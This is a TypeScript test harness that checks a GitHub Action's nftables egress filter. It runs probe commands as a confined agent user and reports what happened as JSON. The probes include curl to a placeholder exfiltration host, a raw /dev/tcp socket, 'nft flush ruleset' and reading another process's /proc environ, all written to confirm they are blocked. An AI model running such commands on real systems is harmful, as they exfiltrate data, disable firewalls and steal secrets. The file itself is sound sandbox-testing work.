/**
 * The Action's egress filter as a job container gets it, run inside a namespace that stands in for the
 * container's (egress-container.test.ts starts it through unshare): the runner applies the rules with
 * the Action's code, then runs commands as the agent would, and prints what happened as JSON.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { claimAgentUser } from "../../src/attempt/agent-user.ts";
import { runBounded } from "../../src/attempt/bounded.ts";
import { startEgress } from "../../src/attempt/egress/egress.ts";
import { EGRESS_TABLE, nft } from "../../src/attempt/egress/rules.ts";
import { WAIT_MS } from "../../harness/patience.ts";

const registry = createServer((_req, res) => res.end("registry: left-pad 1.3.0\n"));
await new Promise<void>((resolve) => registry.listen(0, "127.0.0.1", resolve));
const registryPort = (registry.address() as AddressInfo).port;
const log: string[] = [];
// The agent's own user, as the Action gives it one: its group is the one the rules filter.
const user = await claimAgentUser(tmpdir());
const egress = await startEgress({
  mode: "container",
  allow: [`127.0.0.1:${registryPort}`],
  modelUrl: "http://127.0.0.1:9",
  entry: "",
  agentGroup: user.gid,
  log: (line) => log.push(line),
});
const rules = (await nft(["list", "table", "inet", EGRESS_TABLE])).output;
const agent = async (command: string) =>
  (
    await runBounded("bash", ["-c", command], {
      cwd: "/",
      env: { ...process.env, ...egress.env },
      timeoutMs: WAIT_MS,
      confine: { prefix: [...egress.prefix, ...user.prefix], endAll: user.endAll },
    })
  ).output;
const runner = (
  await runBounded("bash", ["-c", `curl -sS -m 5 http://127.0.0.1:${registryPort}/`], {
    cwd: "/",
    env: process.env,
    timeoutMs: WAIT_MS,
  })
).output;
const outputs = {
  curl: await agent("curl -sS -m 10 https://exfil.example/upload; echo curl-exit=$?"),
  lookup: await agent("getent hosts exfil.example; echo lookup-exit=$?"),
  socket: await agent("timeout 10 bash -c 'exec 3<>/dev/tcp/203.0.113.9/443'; echo socket-exit=$?"),
  registry: await agent(`curl -sS -m 10 http://127.0.0.1:${registryPort}/left-pad; echo registry-exit=$?`),
  direct: await agent(`curl -sS -m 10 --noproxy '*' http://127.0.0.1:${registryPort}/; echo direct-exit=$?`),
  flush: await agent("nft flush ruleset; echo flush-exit=$?; id -g"),
  // Without the filter's help: the agent's user reads no other user's environment.
  environ: await agent(`cat /proc/${process.pid}/environ; echo environ-exit=$?`),
  runner,
};
const refusals = await egress.refusals();
await egress.close();
await user.release();
const after = (await nft(["list", "tables"])).output;
registry.close();
process.stdout.write(
  JSON.stringify({
    enforced: egress.enforced,
    note: egress.note,
    prefix: [...egress.prefix, ...user.prefix],
    rules,
    outputs,
    refusals,
    log,
    after,
  }),
);
